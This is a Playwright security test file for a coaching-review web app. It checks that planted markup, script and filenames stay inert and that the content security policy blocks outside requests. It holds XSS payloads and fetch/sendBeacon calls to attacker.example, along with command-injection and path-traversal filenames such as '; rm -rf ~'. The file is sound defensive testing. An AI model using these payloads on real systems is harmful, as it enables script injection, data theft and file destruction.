import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import type { Framework } from '#shared/model/framework';
import { type BuiltProgram, startBuiltProgram } from '../helpers/built-program';
import { projectFolder } from '../helpers/ensure-built';
import { acceptPackage, addRecording, introduce, pack, submit, writeReview } from '../screens/program-api';
import { call } from './program-api';

/** Each would run, load or lead somewhere if any place of the page took text for more than text. */
const PLANTS = [
  '<img src=https://attacker.example/x onerror=planted(1) data-planted>',
  '<svg onload=planted(2) data-planted>',
  '"\'><script data-planted>planted(3)</script>',
  '<a href="javascript:planted(4)" data-planted>more</a>',
  '[more](javascript:planted(5)) ![x](https://attacker.example/y)',
  '{{constructor.constructor("planted(6)")()}} <%= planted(7) %>',
  '<iframe srcdoc="<script>parent.planted(8)</script>" data-planted></iframe>',
  '<style data-planted>@import "https://attacker.example/z"</style>',
  'javascript:planted(9)',
  'https://attacker.example/?from=note',
] as const;
const ALL = PLANTS.join(' ');
const SHORT = '<img src=x onerror=planted(0) data-planted>';
/** Names of files that a shell, a terminal or a reader would take for something else. */
const NAMES = [
  '; rm -rf ~ #.opus',
  '$(touch planted).opus',
  '`touch planted`.opus',
  '--output=planted.opus',
  '-rf.opus',
  '| tee planted.opus',
  'a\nb\rc.opus',
  '\u202egpj.exe.opus',
  '../../planted.opus',
  '..\\..\\planted.opus',
  '%2e%2e%2fplanted.opus',
  'CON.opus',
  '\u0000.opus',
  `${SHORT}.opus`,
] as const;

type Watched = { page: Page; ran: string[]; violations: string[]; foreign: string[]; problems: string[] };

let program: BuiltProgram;
let other: BuiltProgram;
let sessionId: string;
let draftId: string;
let framework: Framework;

test.beforeAll(async () => {
  [program, other] = await Promise.all([startBuiltProgram(), startBuiltProgram()]);
  await introduce(program, `Ana ${SHORT}`, 'trainee');
  await introduce(other, `Mina ${SHORT}`, 'mentor', SHORT);
  framework = plantedFramework();
  await call(program, 'frameworks.importFile', { fileName: SHORT, text: JSON.stringify(framework) });
  sessionId = await addRecording(program, recordingNamed(`${SHORT}.opus`), {
    title: ALL.slice(0, 290),
    coach: ALL.slice(0, 120),
    clientAlias: `"'>${SHORT}`,
    tags: [SHORT, PLANTS[8], PLANTS[1]],
    privateNotes: ALL,
    consent: { status: 'given', how: 'written', uses: ['self-review', 'mentor'], note: ALL },
  });
  await writeReview(program, sessionId, framework, said()).then((reviewId) => submit(program, reviewId));
  const shared = await pack(program, 'packages.share', {
    sessionId,
    purpose: 'mentor',
    framework: { id: framework.id, edition: framework.edition },
    recording: { include: 'whole' },
    replaceNames: false,
    protection: { type: 'none' },
    message: ALL,
    today: new Date().toISOString().slice(0, 10),
  });
  await acceptPackage(other, shared);
  const theirs = await writeReview(other, sessionId, framework, said());
  await submit(other, theirs);
  const sentBack = await pack(other, 'packages.sendBack', {
    reviewId: theirs,
    message: ALL,
    replaceNames: false,
    protection: { type: 'none' },
  });
  await acceptPackage(program, sentBack);
  const builtIn = { id: 'agreements-and-partnering', edition: '1' };
  draftId = await writeReview(program, sessionId, builtIn, {
    ...said(),
    marks: {},
    ratings: {},
    moments: [],
  });
});
test.afterAll(() => Promise.all([program?.close(), other?.close()]));

function recordingNamed(fileName: string) {
  const file = join(projectFolder, 'tests/fixtures/media/speech.opus');
  return { fileName, bytes: new Uint8Array(readFileSync(file)) };
}

/** A framework in which every text is planted. */
function plantedFramework(): Framework {
  const file = join(projectFolder, 'resources/frameworks/agreements-and-partnering@1.json');
  const planted = JSON.parse(readFileSync(file, 'utf8'));
  Object.assign(planted, { id: 'planted', title: ALL.slice(0, 300), description: ALL, sourceNote: ALL });
  for (const scale of planted.scales) {
    scale.title = ALL.slice(0, 300);
    for (const value of scale.values) Object.assign(value, { label: SHORT, anchor: ALL });
  }
  for (const domain of planted.domains) {
    domain.title = ALL.slice(0, 300);
    for (const competency of domain.competencies) {
      Object.assign(competency, { title: `${competency.code} ${SHORT}`, definition: ALL });
      for (const indicator of competency.indicators) {
        Object.assign(indicator, { text: ALL, countsFor: PLANTS, countsAgainst: PLANTS });
      }
    }
  }
  return planted;
}

function said() {
  const kind = 'session-agreement';
  return {
    moments: PLANTS.map((plant, index) => ({
      ...{ kind, startMs: index * 100, note: plant, quote: ALL, indicators: ['SA.1'], competencies: ['SA'] },
    })),
    marks: { 'SA.1': 'observed' as const },
    ratings: { SA: ['solid', ALL] as const },
    feedback: { strengths: ALL, develop: ALL, nextStep: ALL },
  };
}

/** A page that tells when something runs, is loaded from elsewhere, is forbidden by the policy or goes wrong. */
async function watched(context: BrowserContext, host = program): Promise<Watched> {
  const page = await context.newPage();
  const watch: Watched = { page, ran: [], violations: [], foreign: [], problems: [] };
  await page.exposeFunction('planted', (number: unknown) => watch.ran.push(String(number)));
  await page.exposeFunction('tellViolation', (text: string) => watch.violations.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      (window as unknown as { tellViolation(text: string): void }).tellViolation(
        `${violatedDirective} ${blockedURI}`,
      );
    });
  });
  const note = (url: string) => {
    if (!/^(data|blob):/.test(url) && new URL(url).origin !== host.origin) watch.foreign.push(url);
  };
  context.on('requestfinished', (request) => note(request.url()));
  // What the policy stops is told as a request too, though nothing leaves; it counts as a violation.
  context.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') note(request.url());
  });
  context.on('page', (opened) => watch.problems.push(`opened ${opened.url()}`));
  page.on('dialog', (dialog) => watch.problems.push(`dialog ${dialog.message()}`));
  page.on('pageerror', (error) => watch.problems.push(String(error)));
  await page.goto(await host.newAddress());
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
  return watch;
}

async function expectHarmless({ page, ran, violations, foreign, problems }: Watched): Promise<void> {
  await page.waitForTimeout(300);
  expect(await page.locator('[data-planted]').count()).toBe(0);
  expect(await page.locator('a[href^="javascript:" i], a[href*="attacker"], iframe').count()).toBe(0);
  expect({ ran, violations, foreign, problems }).toEqual({
    ran: [],
    violations: [],
    foreign: [],
    problems: [],
  });
}

async function goTo(page: Page, path: string): Promise<void> {
  await page.goto(`${program.origin}/?at=${encodeURIComponent(path)}#${path}`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

test.describe('markup and script in every text', () => {
  test('are text on every screen', async ({ context }) => {
    const watch = await watched(context);
    const { page } = watch;
    await goTo(page, '/');
    await expect(page.getByText('onerror=planted(1)').first()).toBeVisible();
    await expectHarmless(watch);
    for (const path of [
      `/session/${sessionId}`,
      `/session/${sessionId}/review/${draftId}`,
      `/session/${sessionId}/compare?framework=planted@1`,
      '/people',
      '/settings',
      '/trash',
    ]) {
      await goTo(page, path);
      await expectHarmless(watch);
    }
  });

  test('are text in a review under an imported framework, in each of its panels', async ({ context }) => {
    const watch = await watched(context);
    const { page } = watch;
    const { id, edition } = framework;
    const reviewId = await writeReview(program, sessionId, { id, edition }, said());
    await goTo(page, `/session/${sessionId}/review/${reviewId}`);
    for (const panel of ['Moments', 'Checklist', 'Rating', 'Feedback']) {
      await page.getByRole('tab', { name: panel }).click();
      await expect(page.getByText('onerror=planted', { exact: false }).first()).toBeAttached();
      await expectHarmless(watch);
    }
    await page.getByRole('tab', { name: 'Moments' }).click();
    const moments = page.getByRole('list', { name: 'Moments' }).getByRole('button');
    for (const index of PLANTS.keys()) {
      await moments.nth(index).click();
      await expect(page.getByRole('textbox', { name: 'Note' })).toHaveValue(PLANTS[index] ?? '');
    }
    await expectHarmless(watch);
    await call(program, 'reviews.discard', { reviewId });
  });

  test('are text in what a package says of itself before it is taken in', async ({ context }) => {
    const bytes = await pack(program, 'packages.share', {
      sessionId,
      purpose: 'mentor',
      framework: { id: framework.id, edition: framework.edition },
      recording: { include: 'none' },
      replaceNames: false,
      protection: { type: 'none' },
      message: ALL,
      today: new Date().toISOString().slice(0, 10),
    });
    const watch = await watched(context, other);
    const { page } = watch;
    await page.locator('input[type=file]').setInputFiles({
      name: `${SHORT.replaceAll('/', '')}.concordance`,
      mimeType: 'application/octet-stream',
      buffer: Buffer.from(bytes),
    });
    await expect(page.getByRole('dialog')).toContainText('onerror=planted');
    await expectHarmless(watch);
  });

  test('are nothing in the address', async ({ context }) => {
    const watch = await watched(context);
    const { page } = watch;
    for (const path of [
      `/session/${encodeURIComponent(SHORT)}`,
      `/${SHORT}`,
      '//attacker.example/',
      'javascript:planted(1)',
      `/session/${sessionId}/compare?framework=${encodeURIComponent(SHORT)}`,
      '/%00',
      '/%zz',
    ]) {
      await page.goto(`${program.origin}/?at=${encodeURIComponent(path)}#${path}`);
      await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
      await expectHarmless(watch);
      expect(new URL(page.url()).origin).toBe(program.origin);
    }
  });
});

test('names of files that are commands become names, and nothing else', async ({ context }) => {
  const own = await startBuiltProgram();
  try {
    await introduce(own, 'Ana', 'trainee');
    const watch = await watched(context, own);
    for (const [index, name] of NAMES.entries()) {
      // Other bytes each time, so that none is taken for one that is there already.
      const { bytes } = recordingNamed(name);
      const added = await call<{ importId: string }>(own, 'imports.beginUpload', {
        fileName: name,
        sizeBytes: bytes.byteLength,
      });
      const response = await own.fetch(`/uploads/${added.importId}`, { method: 'PUT', body: bytes });
      expect(response.status, name).toBe(204);
      if (index === 0) {
        // While it is still looked at, it is in the library for nobody.
        const count = async () => (await (await own.fetch('/api/sessions.list')).json()).result.data.length;
        await expect.poll(count).toBe(1);
      } else {
        await expect
          .poll(async () => {
            const answer = await own.fetch('/api/imports.list');
            const jobs: { id: string; phase: string }[] = (await answer.json()).result.data;
            return jobs.find((job) => job.id === added.importId)?.phase;
          })
          .toBe('duplicate');
        await call(own, 'imports.addDuplicate', { importId: added.importId });
      }
    }
    const grid = watch.page.getByRole('grid', { name: 'Sessions' });
    await expect(grid.getByRole('row')).toHaveCount(NAMES.length + 1);
    const shown = (await grid.innerText()).normalize();
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
    expect(shown).not.toMatch(/[\u0000-\u0008\u202a-\u202e\u2066-\u2069]/);
    await expectHarmless(watch);
    const sessions: { id: string; title: string }[] = await (await own.fetch('/api/sessions.list'))
      .json()
      .then((answer) => answer.result.data);
    for (const { id } of sessions) {
      const session = await (
        await own.fetch(`/api/sessions.get?input=${encodeURIComponent(JSON.stringify({ sessionId: id }))}`)
      ).json();
      expect(session.result.data.recording.originalName).not.toMatch(/[/\\\n\r]/);
      expect((await own.fetch(`/media/${id}`)).status).toBe(200);
    }
  } finally {
    await own.close();
  }
});

test.describe('what a page that was taken over could try', () => {
  test('the policy forbids script, frames, forms and loading from elsewhere', async ({ context }) => {
    const watch = await watched(context);
    const { page } = watch;
    const outcomes = await page.evaluate(async () => {
      const tried: Record<string, string> = {};
      const script = document.createElement('script');
      script.textContent = 'planted("inline")';
      document.body.append(script);
      const button = document.createElement('button');
      button.setAttribute('onclick', 'planted("attribute")');
      document.body.append(button);
      button.click();
      const link = document.createElement('a');
      link.href = 'javascript:planted("link")';
      document.body.append(link);
      link.click();
      // Later, as the page's own code runs: what a test evaluates at once is exempt from the policy.
      tried.eval = await new Promise((resolve) => {
        setTimeout(() => {
          try {
            // biome-ignore lint/security/noGlobalEval: that it is forbidden is what is shown
            resolve(String(eval('1')));
          } catch {
            resolve('stopped');
          }
        });
      });
      const load = (make: () => Promise<unknown>) =>
        make().then(
          () => 'loaded',
          () => 'stopped',
        );
      tried.fetch = await load(() => fetch('https://attacker.example/', { mode: 'no-cors' }));
      tried.beacon = String(navigator.sendBeacon('https://attacker.example/', 'x'));
      tried.import = await load(
        () => import(/* @vite-ignore */ 'data:text/javascript,planted("import")' as string),
      );
      tried.worker = await new Promise((resolve) => {
        try {
          const worker = new Worker('data:text/javascript,postMessage(1)');
          worker.onmessage = () => resolve('ran');
          worker.onerror = () => resolve('stopped');
        } catch {
          resolve('stopped');
        }
      });
      tried.image = await new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('stopped');
        image.src = 'https://attacker.example/x.png';
      });
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
      tried.base = document.baseURI.startsWith(location.origin) ? 'stopped' : 'moved';
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      document.body.append(form);
      form.submit();
      return tried;
    });
    await page.waitForTimeout(500);
    expect(outcomes).toMatchObject({
      eval: 'stopped',
      fetch: 'stopped',
      import: 'stopped',
      worker: 'stopped',
      image: 'stopped',
      base: 'stopped',
    });
    expect(watch.ran).toEqual([]);
    expect(watch.foreign).toEqual([]);
    expect(new URL(page.url()).origin).toBe(program.origin);
    expect(watch.violations.map((text) => text.split(' ')[0])).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src', 'img-src', 'form-action']),
    );
  });

  test('no other page can look into a window of the program, nor frame it', async ({ context }) => {
    const { page } = await watched(context);
    const attacker = await context.newPage();
    await attacker.route('http://attacker.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>attacker</title>' }),
    );
    await attacker.goto('http://attacker.example/');
    const reach = await attacker.evaluate(async (origin) => {
      const opened = window.open(origin);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return opened === null || opened.closed;
    }, program.origin);
    // The opener's handle is cut, and what it opened is the page that lets nobody in.
    expect(reach).toBe(true);
    const opened = context.pages().at(-1);
    await expect(
      opened?.getByText('Concordance is closed here').first() ?? page.locator('none'),
    ).toBeVisible();
    expect(await page.title()).toMatch(/Concordance/);
  });

  test('a link to the outside carries no referrer and no way back', async ({ context }) => {
    const { page } = await watched(context);
    const referrers: (string | undefined)[] = [];
    await context.route('http://outside.example/**', (route) => {
      referrers.push(route.request().headers().referer);
      return route.fulfill({ contentType: 'text/html', body: '<!doctype html>outside' });
    });
    const opened = context.waitForEvent('page');
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'http://outside.example/';
      link.target = '_blank';
      document.body.append(link);
      link.click();
    });
    const outside = await opened;
    await outside.waitForLoadState();
    expect(await outside.evaluate(() => [document.referrer, window.opener])).toEqual(['', null]);
    expect(referrers).toEqual([undefined]);
    expect(await page.evaluate(() => history.length)).toBeLessThan(4);
  });
});

test('a token does not stay in the history, and going back does not need it', async ({ context }) => {
  const page = await context.newPage();
  const seen: string[] = [];
  page.on('framenavigated', (frame) => seen.push(frame.url()));
  await page.goto(await program.newAddress());
  await page.goto(`${program.origin}/#/settings`);
  await page.goBack();
  expect(seen.join('\n')).not.toContain('token=');
  expect(
    await page.evaluate(() =>
      performance
        .getEntriesByType('navigation')
        .map(({ name }) => name)
        .join(),
    ),
  ).not.toContain('token=');
});
